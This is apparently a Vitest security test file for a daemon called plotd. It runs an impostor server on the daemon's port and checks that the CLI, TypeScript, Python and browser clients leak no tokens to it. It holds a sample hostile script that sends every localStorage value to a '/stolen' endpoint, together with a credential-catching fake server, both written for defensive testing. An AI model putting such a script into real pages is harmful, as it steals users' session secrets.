import { spawn, spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { WebSocketServer } from 'ws'
import { ask } from '../../clients/node/ask.ts'
import { connect, enqueue } from '../../clients/node/index.ts'
import { packageRoot } from '../../src/threads.ts'
import { plotd } from '../clients/cli/run.ts'
import { runsBrowserTests, type Visit, visit } from '../support/browser.ts'
import { buildPage } from '../support/build-page.ts'
import { freePort } from '../support/free-port.ts'
import { type Child, daemonProcess } from '../support/processes.ts'
import { removeFolder } from '../support/remove-folder.ts'
import { until } from '../support/until.ts'

/*
 * The daemon was killed, daemon.json still exists, and another user's process has taken the port. That process
 * answers every request, so that it receives as much as possible.
 */

interface Impostor {
  readonly received: () => string
  close(): Promise<void>
}

const EVIL_PAGE =
  "<script>for (const key of Object.keys(localStorage)) fetch('/stolen?' + encodeURIComponent(localStorage[key]))</script>"

async function impostor(port: number): Promise<Impostor> {
  let received = ''
  const server: Server = createServer((request, response) => {
    if (request.url === '/') return void response.setHeader('content-type', 'text/html').end(EVIL_PAGE)
    const answer = {
      jsonrpc: '2.0',
      id: 0,
      result: { jobs: [], total: 0 },
      proof: 'f'.repeat(64),
      session: 'x'.repeat(32),
    }
    response
      .setHeader('content-type', 'application/json')
      .end(JSON.stringify(request.url === '/rpc' ? [answer] : answer))
  })
  server.on('connection', (socket) => socket.on('data', (chunk: Buffer) => (received += chunk.toString('latin1'))))
  const sockets = new WebSocketServer({ server, handleProtocols: () => 'plotd' })
  await new Promise<void>((listening, failed) => server.once('error', failed).listen(port, '127.0.0.1', listening))
  return {
    received: () => decodeURIComponent(received.replaceAll(/%(?![0-9a-f]{2})/gi, '%25')),
    close: async () => {
      for (const client of sockets.clients) client.terminate()
      server.closeAllConnections()
      await new Promise((closed) => server.close(closed))
    },
  }
}

let folder: string
let state: string
let daemon: Child & { url: string }
let port: number
let taker: Impostor | undefined
/** The secret of the token `shop`. */
let shopSecret: string

const settings = () => ({ port, state, output: join(folder, 'output'), logLevel: 'error' })
/** The tokens that the daemon accepts, before it is killed and after. */
const secretsOfFolder = () => [readFileSync(join(state, 'token'), 'utf8').trim(), shopSecret]

beforeAll(async () => {
  await buildPage()
})
beforeEach(async () => {
  folder = mkdtempSync(join(tmpdir(), 'plotd-impostor-'))
  state = join(folder, 'state')
  port = await freePort()
  daemon = await daemonProcess(settings())
  shopSecret = (await ask('token.new', { name: 'shop', role: 'submit' }, { state })).secret
})
afterEach(async () => {
  await taker?.close()
  taker = undefined
  await daemon.kill('SIGKILL')
  removeFolder(folder)
})

/** Removes the path of the socket from daemon.json. Clients then connect over TCP, as on Windows. */
function withoutSocketFile(): void {
  const file = join(state, 'daemon.json')
  const { socket: _, ...rest } = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>
  writeFileSync(file, JSON.stringify(rest))
}

async function takeOver(): Promise<Impostor> {
  await daemon.kill('SIGKILL')
  expect(existsSync(join(state, 'daemon.json'))).toBe(true)
  taker = await impostor(port)
  return taker
}

/** Expects that the impostor received no secret, and that the restarted daemon accepts no word of `received`. */
async function expectNoSecret(received: string): Promise<void> {
  for (const secret of secretsOfFolder()) expect(received).not.toContain(secret)
  await taker?.close()
  taker = undefined
  daemon = await daemonProcess(settings())
  const words = new Set(received.match(/[\w-]{16,}/g))
  for (const word of words) {
    const bearer = await fetch(`${daemon.url}/session`, { headers: { authorization: `Bearer ${word}` } })
    const headers = { 'content-type': 'application/json' }
    const login = await fetch(`${daemon.url}/session`, {
      method: 'POST',
      headers,
      body: JSON.stringify({ code: word }),
    })
    expect([word, bearer.status, login.status]).toEqual([word, 401, 401])
  }
}

function run(command: string, words: readonly string[], env: NodeJS.ProcessEnv = {}) {
  const child = spawn(command, words, {
    cwd: folder,
    env: { ...process.env, PLOTD_STATE: state, ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  })
  let out = ''
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (out += chunk.toString()))
  return new Promise<{ code: number | null; out: string }>((resolve) =>
    child.once('close', (code) => resolve({ code, out })),
  )
}

const PYTHON = join(packageRoot, 'examples/plotd_client.py')
const hasPython = process.env['CI'] !== undefined || spawnSync('python3', ['--version']).error === undefined

async function commandLine(): Promise<void> {
  const none = {}
  const words: (readonly [readonly string[], NodeJS.ProcessEnv])[] = [
    [['list'], none],
    [['text', 'Hello', '--wait'], none],
    [['open', '--print'], none],
    [['list'], { PLOTD_TOKEN: shopSecret }],
    // The user names the address, but gives no token for that address.
    [['list', '--url', `http://127.0.0.1:${port}`], none],
  ]
  for (const [verb, env] of words) {
    const { code, out, err } = await plotd(verb, { PLOTD_STATE: state, ...env })
    expect([verb, code, err]).toEqual([verb, 3, expect.stringContaining('the token was not sent')])
    for (const secret of secretsOfFolder()) expect(out + err).not.toContain(secret)
  }
}

async function typeScript(): Promise<void> {
  const away = { code: 'ERR_DAEMON_AWAY' }
  await expect(connect({ state, reconnect: false })).rejects.toMatchObject(away)
  await expect(enqueue('text', { text: 'x' }, { daemon: { state } })).rejects.toMatchObject(away)
  await expect(connect({ state, token: shopSecret })).rejects.toMatchObject(away)
}

async function python(): Promise<void> {
  const { code, out } = await run('python3', [PYTHON, 'Ada', 'Hello'])
  expect([code, out]).toEqual([1, expect.stringContaining('a program other than the daemon of this token')])
  const script = `
import sys; sys.path.insert(0, ${JSON.stringify(join(packageRoot, 'examples'))})
from plotd_client import Plotd
next(Plotd.find().watch("a-job"))`
  expect((await run('python3', ['-B', '-c', script])).code).toBe(1)
}

describe('an impostor at the daemon’s port', () => {
  it.each(['with', 'without'] as const)('gets no secret, %s a socket path in daemon.json', async (socket) => {
    if (socket === 'without') {
      withoutSocketFile()
      // While the daemon runs, programs reach it over TCP.
      if (hasPython) expect((await run('python3', [PYTHON, 'Ada', 'Hello'])).out).toContain('finished')
    }
    const live = await connect({ state })
    await live.subscribe(() => {})
    const { received: messages } = await takeOver()
    await Promise.all([commandLine(), typeScript(), hasPython ? python() : undefined])
    // The client that was connected tries by itself to connect again.
    const greeted = messages().split('GET /hello').length
    await until(() => messages().split('GET /hello').length > greeted + 1)
    await expectNoSecret(messages())
    expect((await live.call('job.list', {})).total).toBe(socket === 'without' && hasPython ? 1 : 0)
    live.close()
  })

  const browserTests = () => {
    let visited: Visit | undefined
    afterEach(async () => {
      await visited?.close()
      visited = undefined
    })
    afterAll(() => visited?.close())

    it.each(['code', 'token'] as const)(
      'gets at most the ended session of a page that was opened with a %s',
      async (way) => {
        const { link } = await ask('session.code', {}, { state })
        visited = await visit(way === 'code' ? link : `${daemon.url}/#token=${shopSecret}`)
        const { page } = visited
        await page.getByRole('heading', { name: 'Queue' }).waitFor()
        expect(JSON.stringify(await page.evaluate('({...localStorage})'))).not.toContain(shopSecret)

        const { received: messages } = await takeOver()
        await until(() => messages().includes('plotd.token.')) // the open page connects again by itself
        await page.reload()
        await until(() => messages().includes('/stolen?'))
        await expectNoSecret(messages())
      },
    )
  }
  if (runsBrowserTests) describe('to which an open page connects', browserTests)
})
